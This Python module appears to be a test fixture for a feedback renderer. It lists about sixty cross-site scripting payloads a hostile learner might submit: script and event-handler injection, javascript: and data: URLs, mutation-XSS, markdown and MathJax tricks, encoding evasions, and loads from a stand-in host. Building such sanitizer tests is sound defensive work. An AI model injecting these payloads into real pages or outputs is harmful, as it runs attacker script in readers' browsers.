"""What a hostile learner writes to act on whoever reads the feedback: markup that wants to run.

Each payload sets `window.HIT`, opens a dialog, or asks another host, if it is let.
"""

from __future__ import annotations

import base64

RUN = "window.top.HIT=1;alert(1)"
HOST = "http://canary.invalid"
_SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script></svg>"
_PAGE = f"<script>{RUN}</script>"


def _data(kind: str, body: str) -> str:
    return f"data:{kind};base64,{base64.b64encode(body.encode()).decode()}"


PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script_src": f"<script src={HOST}/x.js></script>",
    "script_split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script_case": f"<ScRiPt\n/x>{RUN}</sCrIpT >",
    "script_module": f"<script type=module>{RUN}</script>",
    "closes_style": f"</style><script>{RUN}</script>",
    "closes_title": f"</title><script>{RUN}</script>",
    "closes_textarea": f"</textarea></pre></code><script>{RUN}</script>",
    "closes_comment": f"--><script>{RUN}</script><!--",
    "closes_attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x=\'',
    "img_onerror": f'<img src=x onerror="{RUN}">',
    "img_slashes": f"<img/src=`x`/onerror={RUN}>",
    "img_remote": f"<img src={HOST}/pixel.png srcset='{HOST}/2.png 2x'>",
    "img_svg_data": f'<img src="{_data("image/svg+xml", _SVG)}">',
    "svg_onload": f'<svg onload="{RUN}">',
    "svg_script": f"<svg><script>{RUN}</script></svg>",
    "svg_animate": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg_use": f'<svg><use href="{_data("image/svg+xml", _SVG)}#x"/></svg>',
    "svg_foreign": f'<svg><foreignObject><body onload="{RUN}"></foreignObject></svg>',
    "math_link": f'<math><maction xlink:href="javascript:{RUN}">x</maction></math>',
    "mutation_math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img '
    f'src=1 onerror={RUN}&gt;">',
    "mutation_svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation_noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation_form": f"<form><math><mtext></form><form><mglyph><style></math>"
    f"<img src onerror={RUN}>",
    "title_with_tag": f'<a title="<img src=x onerror={RUN}>">x</a>',
    "alt_with_tag": f'<img alt="a><script>{RUN}</script>">',
    "iframe_srcdoc": f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    "iframe_javascript": f'<iframe src="javascript:{RUN}"></iframe>',
    "iframe_data": f'<iframe src="{_data("text/html", _PAGE)}"></iframe>',
    "object_data": f'<object data="{_data("text/html", _PAGE)}"></object>',
    "embed": f'<embed src="{_data("image/svg+xml", _SVG)}">',
    "link_javascript": f'<a href="javascript:{RUN}">x</a>',
    "link_tab": f'<a href="java\tscript:{RUN}">x</a>',
    "link_entity": f'<a href="&#106;avascript&colon;{RUN}">x</a>',
    "link_data": f'<a href="{_data("text/html", _PAGE)}">x</a>',
    "link_vbscript": '<a href="vbscript:MsgBox(1)">x</a>',
    "markdown_link": f"[x](javascript:{RUN}) [y](<java\tscript:{RUN}>) [z](data:text/html,x)",
    "markdown_reference": f"[x]: javascript:{RUN}\n\n[x] <javascript:{RUN}>",
    "markdown_image": f'![x]({HOST}/y.png) ![y](javascript:{RUN}) ![" onerror="{RUN}](z)',
    "markdown_attachment": "![x](attachment:evil.png) ![y](attachment:evil.svg)",
    "markdown_fence": f'```"><script>{RUN}</script>\nx\n```',
    "meta_refresh": f'<meta http-equiv=refresh content="0;url={HOST}/">',
    "base": f'<base href="{HOST}/">',
    "link_stylesheet": f"<link rel=stylesheet href={HOST}/x.css>",
    "style_import": f"<style>@import url({HOST}/x.css);body{{background:url({HOST}/y)}}</style>",
    "style_attribute": f'<div style="background:url({HOST}/z);position:fixed;inset:0">x</div>',
    "form_action": f'<form action="javascript:{RUN}"><input type=submit autofocus '
    f'onfocus="{RUN}"><button formaction="javascript:{RUN}">x</button></form>',
    "details_toggle": f'<details open ontoggle="{RUN}">x</details>',
    "video_error": f'<video><source onerror="{RUN}"></video><audio src={HOST}/a onerror="{RUN}">',
    "body_onload": f'<body onload="{RUN}" background="{HOST}/b">',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "template_shadow": "<div><template shadowrootmode=open><script>"
    f"{RUN}</script></template></div>",
    "clobbering": "<img name=cookie><form id=document name=body><a id=HIT name=HIT></a></form>",
    "custom_element": f'<x-y onanimationstart="{RUN}" is=script>x</x-y>',
    "mathjax": f"$\\href{{javascript:{RUN}}}{{x}}$ \\(\\unicode[' onclick={RUN}']{{x}}\\)",
    "terminal_colours": f"\x1b[31m<script>{RUN}</script>\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07",
    "null_bytes": f"<\x00script>{RUN}</script><img src=x on\x00error={RUN}>",
    "odd_spaces": f'<img\x0csrc=x\x0conerror={RUN}><a href="\x01javascript:{RUN}">x</a>',
    "utf_7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "jinja": "{{ ''.__class__ }}{% raw %}<script>alert(1)</script>{% endraw %}",
}
